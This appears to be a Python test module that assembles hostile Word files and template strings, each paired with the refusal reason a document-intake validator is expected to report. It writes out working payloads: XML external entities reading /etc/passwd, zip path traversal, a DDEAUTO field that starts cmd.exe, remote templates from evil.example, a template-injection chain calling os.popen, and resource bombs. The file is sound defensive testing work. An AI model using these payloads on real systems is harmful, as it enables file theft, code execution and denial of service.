"""Templates meant to do harm, each with words of the reason it is refused for.

Those of FILES differ from an honest file in a few parts; those of TEXTS are honest files with hostile words in them.
"""

import io
import zipfile
from collections.abc import Iterator, Mapping
from itertools import pairwise
from random import Random

from assistant.drafting.word.parts.intake import MOST_PARTS
from tests.drafting.word.building import NAMESPACES, OFFICE, cell, make_document, pack, paragraph, run, unpack

GOOD = unpack(make_document("Dear {{ name }},", footer1=paragraph("Page")))
_BOMB = b"<x>" + b" " * (3 << 20) + b"</x>"
_RELATION = f'<Relationship Id="bad" Type="{OFFICE}/%s" Target="%s"%s/></Relationships>'


def related(kind: str, target: str, *, external: bool = True) -> dict[str, bytes]:
    mode = ' TargetMode="External"' if external else ""
    added = (_RELATION % (kind, target, mode)).encode()
    name = "word/_rels/document.xml.rels"
    return {name: GOOD[name].replace(b"</Relationships>", added)}


def document(inside: str) -> dict[str, bytes]:
    return {"word/document.xml": f"<w:document {NAMESPACES}><w:body>{inside}</w:body></w:document>".encode()}


def field(*code: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in code)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


FILES: dict[str, tuple[Mapping[str, bytes], str]] = {
    "macros": ({"word/vbaProject.bin": b"x"}, "macros"),
    "macros by another name": (
        {"[Content_Types].xml": GOOD["[Content_Types].xml"].replace(b"document.main", b"document.macroEnabled.main")},
        "macros",
    ),
    "an ActiveX control": ({"word/activeX/activeX1.xml": b"<x/>"}, "controls"),
    "an embedded object": ({"word/embeddings/oleObject1.bin": b"x"}, "embedded objects"),
    "an embedded object by relation": (related("oleObject", "thing.bin", external=False), "embedded objects"),
    "a page of another format": (related("aFChunk", "page.html", external=False), "embedded objects"),
    "an entity": (
        {"word/document.xml": b'<!DOCTYPE a [<!ENTITY b "c">]>' + GOOD["word/document.xml"]},
        "document type",
    ),
    "an outside entity in a header": (
        {"word/header9.xml": b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'},
        "document type",
    ),
    "an entity in another encoding": (
        {"word/header9.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")},
        "UTF-8",
    ),
    "an entity in UTF-7": ({"word/header9.xml": b'<?xml version="1.0" encoding="UTF-7"?><a/>'}, "UTF-8"),
    "a bomb": ({"word/theme/theme1.xml": _BOMB}, "bomb"),
    "too much text": ({"word/x.xml": Random(1).randbytes(1 << 17).hex().encode() * 33}, "more than a letter can need"),
    "too many parts": ({f"word/p{number}.xml": b"<x/>" for number in range(MOST_PARTS)}, "parts"),
    "a way out of the file": ({"../../etc/passwd": b"x"}, "outside"),
    "a way out for Windows": ({"word\\..\\..\\x": b"x"}, "outside"),
    "a template elsewhere": (related("attachedTemplate", "http://evil.example/t.dotm"), "another template"),
    "a picture elsewhere": (related("image", "http://evil.example/track.png"), "from outside"),
    "a frame elsewhere": (related("frame", "http://evil.example/"), "from outside"),
    "a file fetched by a field": (document(field(' INCLUDETEXT "/etc/passwd"')), "INCLUDETEXT"),
    "a program started by a field": (document(field("DDE", 'AUTO c:\\\\windows\\\\cmd.exe "/k calc"')), "DDEAUTO"),
    "a simple field": (
        document('<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://evil.example"/></w:p>'),
        "INCLUDEPICTURE",
    ),
    "a document in the strict dialect": (
        {"word/document.xml": GOOD["word/document.xml"].replace(b"schemas.openxmlformats.org", b"purl.oclc.org")},
        "Strict",
    ),
    "broken markup": ({"word/document.xml": b"<w:document>"}, "no valid XML"),
}


def _multiplied(loops: int) -> str:
    """A text joined to itself in every loop: sixty times longer in each."""
    names = ["text", *"bcdefghijklm"][: loops + 1]
    heads = (f"{{% for {new} in [[{','.join([old] * 60)}]|join] %}}" for old, new in pairwise(names))
    return "".join(heads) + f"{{{{ {names[loops]} }}}}" + "{% endfor %}" * loops


def _compared(pairs: int) -> str:
    """Two lists of lists of lists, equal to the last, that share nothing."""
    inner, heads = ("items", "items"), ""
    for number in range(pairs):
        names = f"a{number}", f"b{number}"
        for name, old in zip(names, inner, strict=True):
            heads += f"{{% for {name} in [[{','.join([old] * 40)}]] %}}"
        inner = names
    return f"{heads}{{% if {inner[0]} == {inner[1]} %}}x{{% endif %}}" + "{% endfor %}" * (2 * pairs)


_TWICE = "{% for a in items %}{% for b in items %}"
_HEAVY = f"[{','.join('1' * 180)}]|length"

TEXTS: dict[str, tuple[bytes, str]] = {
    "Python by its globals": (
        make_document("{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        "cannot call anything",
    ),
    "Python by its classes": (make_document("{{ ''.__class__.__mro__ }}"), "no name a template may use"),
    "Python by itself": (make_document("{{ self._TemplateReference__context }}"), "no name a template may use"),
    "Python in a header": (make_document("x", header1=paragraph("{{ name.__class__ }}")), "no name a template may use"),
    "a method": (make_document("{{ name.format(name) }}"), "cannot call anything"),
    "another file": (make_document("{% include '/etc/passwd' %}"), "does not know the statement “include”"),
    "an import": (make_document("{% import 'os' as os %}"), "does not know the statement “import”"),
    "a macro": (make_document("{% macro f() %}{{ f() }}{% endmacro %}"), "does not know the statement “macro”"),
    "recursion": (make_document("{% for a in items recursive %}{% endfor %}"), "is not expected there"),
    "a huge product": (make_document("{{ 'a' * 2000000000 }}"), "does not calculate"),
    "a huge range": (make_document("{% for a in range(1000000000) %}{% endfor %}"), "cannot call anything"),
    "filler words": (make_document("{{ lipsum(100000) }}"), "cannot call anything"),
    "a format": (make_document("{{ '%999999999d'|format(1) }}"), "There is no filter “format”"),
    "a filter by its name": (make_document("{{ items|map('upper') }}"), "There is no filter “map”"),
    "a long expression": (make_document("{{ name " + "and name " * 90 + "}}"), "longer than 400 characters"),
    "a nested expression": (make_document("{{ " + "[" * 180 + "]" * 180 + " }}"), "Too much is nested"),
    "deep loops": (make_document("{% for a in items %}" * 13 + "{% endfor %}" * 13), "More than 12 loops"),
    "loops in loops": (make_document("{% for a in items %}" * 5 + "x" + "{% endfor %}" * 5), "grows beyond"),
    "a text joined to itself": (make_document(_multiplied(6)), "grows beyond"),
    "lists of lists": (make_document(_compared(5)), "a list cannot be compared"),
    "heavy expressions": (
        make_document(_TWICE + f"{{% if {_HEAVY} %}}{{% endif %}}" + "{% endfor %}" * 2),
        "grows beyond",
    ),
    "a heavy filter of a loop": (
        make_document(f"{_TWICE}{{% for c in items if {_HEAVY} %}}" + "{% endfor %}" * 3),
        "grows beyond",
    ),
    "values wrong for ever": (
        make_document("{% for a in items %}" * 2 + "{{ name|join }}" + "{% endfor %}" * 2),
        "needs a list",
    ),
    "more tags than anyone writes": (make_document("{{ name }}" * 3000), "more than 2000 tags"),
    "more errors than anyone reads": (make_document(*["{{ name|uper }}"] * 3000), "more than 2000 tags"),
    "halves of tags": (make_document(*[f"{{{{ {number}" for number in range(3000)]), "more than 2000 tags"),
    "wide cells": (
        make_document(f"<w:tbl><w:tr>{cell(paragraph('{% hm %}') * 3000)}</w:tr></w:tbl>"),
        "more than 2000 tags",
    ),
    "notes without end": (
        make_document(
            *(
                "{%p for a in items %}",
                paragraph(*['<w:r><w:footnoteReference w:id="1"/></w:r>'] * 500),
                "{%p endfor %}",
            ),
            footnotes=f'<w:footnote w:id="1">{paragraph("{{ name }}")}</w:footnote>',
        ),
        "grows beyond",
    ),
    "tags in links": (pack({**GOOD, **related("hyperlink", "https://x.eu/{{ name }}")}), "nothing fills it there"),
}


def _stored(parts: Mapping[str, str | bytes]) -> bytes:
    """A zip that is not packed, so that nothing looks like a bomb."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _long(*blocks: str, **parts: str) -> bytes:
    return _stored(unpack(make_document(*blocks, **parts)))


def all_hostile() -> Iterator[tuple[str, bytes, str]]:
    """Every one of them: what it is, its bytes, the reason for the refusal."""
    for name, (parts, reason) in FILES.items():
        yield name, pack({**GOOD, **parts}), reason
    for name, (data, reason) in TEXTS.items():
        yield name, data, reason
    yield "endless runs", _long(f"<w:p>{run('{') * 90_000}</w:p>"), "longer than that of any letter"
    yield "endless paragraphs", _long("<w:p/>" * 210_000 + paragraph("{{ name }}")), "built of more pieces"
    attributes = " ".join(f'a{number}="{{{{ x }}}}"' for number in range(90_000))
    yield "endless attributes", _long(f"<w:p {attributes}/>"), "nothing fills it there"
    headers = {f"header{number}": "<w:p/>" * 60_000 for number in range(1, 7)}
    yield "endless headers", _long("x", **headers), "longer than that of any letter"
    yield "deep markup", _long("<w:sdt>" * 9000 + "</w:sdt>" * 9000), "no valid XML"
    yield (
        "endless styles",
        _long("{{ name }}", styles=f"<w:styles {NAMESPACES}>{'<w:x/>' * 250_000}</w:styles>"),
        "pieces",
    )
